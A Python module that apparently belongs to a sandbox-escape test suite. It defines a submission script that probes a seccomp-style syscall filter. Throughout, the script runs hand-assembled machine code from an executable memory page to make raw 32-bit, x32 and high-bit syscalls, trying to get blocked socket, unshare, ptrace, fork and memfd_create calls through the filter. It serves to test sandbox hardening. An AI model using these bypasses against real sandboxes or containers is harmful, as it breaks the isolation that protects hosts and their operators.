"""Enter the kernel by doors that a filter may forget: x32 numbers, 32-bit calls by machine code, huge numbers.

Success: a call that the filter refuses (a socket, a new process) is answered, which earns the points of `double`.
"""

from attacks.escaping.ways import HEAD

LIMITS = {"memory_mb": 1024}  # each call has a thread of its own
SUBMISSION = (
    HEAD
    + r'''
import mmap
import struct

X32 = 0x40000000
SOCKET, UNSHARE, PTRACE, MEMFD_CREATE = 41, 272, 101, 319
SOCKET_32, UNSHARE_32, FORK_32 = 359, 310, 2


def machine_code(code):
    """A function of these bytes."""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    PAGES.append(page)
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)


PAGES = []


def of_32_bits(number, *args):
    """``int 0x80`` with up to three arguments."""
    ebx, ecx, edx = [*args, 0, 0, 0][:3]
    load = b"\xb8" + struct.pack("<i", number) + b"\xbb" + struct.pack("<i", ebx)
    load += b"\xb9" + struct.pack("<i", ecx) + b"\xba" + struct.pack("<i", edx)
    result = machine_code(b"\x53" + load + b"\xcd\x80\x5b\xc3")()  # push rbx; ...; int 0x80; pop rbx; ret
    if result == 0 and number == FORK_32:
        os._exit(0)
    return result


def of_64_bits(number, *args):
    """``syscall`` without libc."""
    rdi, rsi, rdx = [*args, 0, 0, 0][:3]
    load = b"\xb8" + struct.pack("<i", number) + b"\xbf" + struct.pack("<i", rdi)
    load += b"\xbe" + struct.pack("<i", rsi) + b"\xba" + struct.pack("<i", rdx)
    return machine_code(load + b"\x0f\x05\xc3")()


def answered(call):
    result = apart(call)
    return result is not None and result >= 0


def x32_socket():
    return answered(lambda: of_64_bits(X32 | SOCKET, 1, 1, 0))


def x32_name_space():
    return answered(lambda: of_64_bits(X32 | UNSHARE, 0x10000000))


def x32_ptrace():
    return answered(lambda: of_64_bits(X32 | 521, 0))


def old_socket():
    return answered(lambda: of_32_bits(SOCKET_32, 1, 1, 0))


def old_name_space():
    return answered(lambda: of_32_bits(UNSHARE_32, 0x10000000))


def old_fork():
    return answered(lambda: of_32_bits(FORK_32))


def socket_without_libc():
    return of_64_bits(SOCKET, 1, 1, 0) >= 0


def file_in_memory_without_libc():
    return of_64_bits(MEMFD_CREATE, 0, 0) >= 0


def high_half_of_the_number():
    return each(lambda number: kernel((1 << 32) | number, 1, 1, 0) + 1, (SOCKET,))


WAYS = [socket_without_libc, file_in_memory_without_libc, high_half_of_the_number,
        x32_socket, x32_name_space, x32_ptrace, old_socket, old_name_space, old_fork]
'''
)
